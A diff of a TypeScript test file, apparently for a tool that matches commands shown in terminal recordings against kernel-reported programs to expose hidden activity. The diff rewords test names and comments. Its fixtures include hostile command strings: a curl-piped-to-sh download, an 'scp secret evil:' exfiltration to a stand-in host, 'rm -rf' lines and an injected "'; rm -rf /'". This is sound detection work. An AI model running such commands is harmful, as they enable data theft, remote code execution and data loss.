@@ -17,7 +17,7 @@ const run = (offset: number, pid: number, text: string, lasts = 50, how = '0', p
 ];
 const inOrder = (...events: readonly (readonly Ran[])[]): readonly Ran[] => events.flat().sort((a, b) => a.offset - b.offset);
 
-test('a command is a line behind a prompt and what the shell started for it, with how that ended', () => {
+test('a command is a line after a prompt, with the programs that the shell started for it and their exit code', () => {
   const lines = [
     line(1_000, `${PROMPT} ls -la /srv`),
     line(2_000, 'total 24'),
@@ -40,7 +40,7 @@ test('a command is a line behind a prompt and what the shell started for it, wit
   expect(hidden).toEqual([]);
 });
 
-test('a line that imitates a prompt was shown and never ran; an alias ran by another name', () => {
+test('a line that imitates a prompt was shown but never ran; an alias ran under another name', () => {
   const lines = [
     line(1_000, `${PROMPT} ll`),
     line(3_000, `${PROMPT} printf '...'`),
@@ -48,7 +48,7 @@ test('a line that imitates a prompt was shown and never ran; an alias ran by ano
     line(8_000, `${PROMPT} FOO=1 nosuchprogram --now`),
   ];
   const { commands } = deriveCommands(lines, inOrder(shell, run(1_100, 101, 'ls -l'), run(900, 99, 'id')), 9_000);
-  // Learned from no line of `ll`, whose program has another name: the prompt is not known yet.
+  // No prompt is learned from a line `ll`, because its program has another name.
   expect(commands).toEqual([]);
   const learned = deriveCommands(
     [line(500, `${PROMPT} ls`), ...lines],
@@ -64,7 +64,7 @@ test('a line that imitates a prompt was shown and never ran; an alias ran by ano
   ]);
 });
 
-test('what ran while no line named it is told, with what started it and how often', () => {
+test('a program that no line names is reported as hidden, with its parent and a count', () => {
   const lines = [line(1_000, `${PROMPT} curl -s http://203.0.113.9/x | sh`), line(20_000, `${PROMPT} id`)];
   const events = inOrder(
     shell,
@@ -83,7 +83,7 @@ test('what ran while no line named it is told, with what started it and how ofte
   expect(commands[0]).toMatchObject({ programs: 5, ran: ['curl -s http://203.0.113.9/x', 'sh'] });
 });
 
-test('typed without an echo, a program of the shell itself is told as such', () => {
+test('a hidden program that the shell itself started, as when typing is not echoed, is reported as direct', () => {
   const lines = [line(1_000, `${PROMPT} ls`), line(20_000, `${PROMPT}`)];
   const events = inOrder(shell, run(1_100, 101, 'ls'), run(15_000, 102, 'scp secret evil:', 9_000, '1'));
   const { hidden, commands } = deriveCommands(lines, events, 30_000);
@@ -91,7 +91,7 @@ test('typed without an echo, a program of the shell itself is told as such', () 
   expect(hidden).toMatchObject([{ text: 'scp secret evil:', direct: true, by: '-bash' }]);
 });
 
-test('where kernel events are missing, or there are none, nothing is said to have never run', () => {
+test('without kernel events, or with a gap in them, no command is reported as never run', () => {
   const lines = [line(1_000, `${PROMPT} ls`), line(5_000, `${PROMPT} rm -rf /srv`), line(90_000, `${PROMPT} reboot`)];
   const gap: Ran = { kind: 'gap', offset: 4_000, until: 6_000 };
   const verdicts = (events: readonly Ran[]): string[] => deriveCommands(lines, events, 99_000).commands.map(({ verdict }) => verdict);
@@ -109,7 +109,7 @@ test.each([
   ["'; rm -rf /'", ['x']],
 ])('the programs of %s', (text, programs) => expect(programsIn(text)).toEqual(programs));
 
-test('whatever stands on a screen and in the kernel, it ends, in bounds, and says of no command both that it ran and that it did not', () => {
+test('for any screen and kernel events, derivation ends, stays in bounds, and no command both ran and did not run', () => {
   const texts = fc.oneof(fc.string({ maxLength: 200 }), fc.constantFrom(`${PROMPT} ls`, '$ $ $ $', '#'.repeat(4_000), '\u202e$ \u0000'));
   const rows = fc.array(fc.tuple(fc.nat(20), fc.nat(9_999), fc.nat(5), fc.nat(5), texts), { maxLength: 60 });
   fc.assert(
@@ -138,7 +138,7 @@ test('whatever stands on a screen and in the kernel, it ends, in bounds, and say
 const begin = (offset: number, text: string, prompt = '❯'): Marked => ({ kind: 'begin', offset, prompt, text });
 const ended = (offset: number, exit: string): Marked => ({ kind: 'end', offset, exit });
 
-test('what the shell marked is a command with its exit code, whatever its prompt looks like; the kernel is still asked', () => {
+test('a command that the shell marked has its exit code, whatever the prompt looks like; kernel events still decide whether it ran', () => {
   const lines = [line(1_000, '❯ make'), line(1_500, 'no rule'), line(4_000, '❯ cd /srv'), line(6_000, '❯ rm -rf /var/backups')];
   const marks = [
     ended(500, '0'),
@@ -153,7 +153,7 @@ test('what the shell marked is a command with its exit code, whatever its prompt
   expect(commands.map(({ at, place, text, known, verdict, exit, lasted }) => [at, place, text, known, verdict, exit, lasted])).toEqual([
     [1_000, '1.1000', 'make', 'marks', 'ran', '2', 1_990],
     [4_000, '1.4000', 'cd /srv', 'marks', 'builtin', '0', 5],
-    // Marked by who printed it: nothing ran.
+    // The marks were printed by a program: nothing ran.
     [6_000, '1.6000', 'rm -rf /var/backups', 'marks', 'never_ran', null, null],
   ]);
   expect(deriveCommands(lines, [], 9_000, marks).commands.map(({ known, verdict }) => [known, verdict])).toEqual([
@@ -163,7 +163,7 @@ test('what the shell marked is a command with its exit code, whatever its prompt
   ]);
 });
 
-test('commands of a shell without marks stand beside those of one with them, and no line is told twice', () => {
+test('commands of a shell without marks appear beside those of a shell with marks, and no line is reported twice', () => {
   const lines = [line(1_000, '❯ sudo -i'), line(2_000, 'root@web:~# ls'), line(3_000, 'root@web:~# id'), line(9_000, '❯ ls')];
   const marks = [begin(1_001, 'sudo -i'), ended(8_000, '0'), begin(9_001, 'ls'), ended(9_002, '')];
   const { commands } = deriveCommands(lines, [], 10_000, marks);
@@ -175,7 +175,7 @@ test('commands of a shell without marks stand beside those of one with them, and
   ]);
 });
 
-test('any marks over any lines give commands in order, each with a place of its own', () => {
+test('any marks over any lines give commands in order, each at its own position', () => {
   const words = fc.constantFrom('ls', 'id', '', 'make all', '❯ ls');
   const anyMark: fc.Arbitrary<Marked> = fc.oneof(
     fc.tuple(fc.nat(5_000), words, fc.constantFrom('❯', '', PROMPT)).map(([offset, text, prompt]) => begin(offset, text, prompt)),
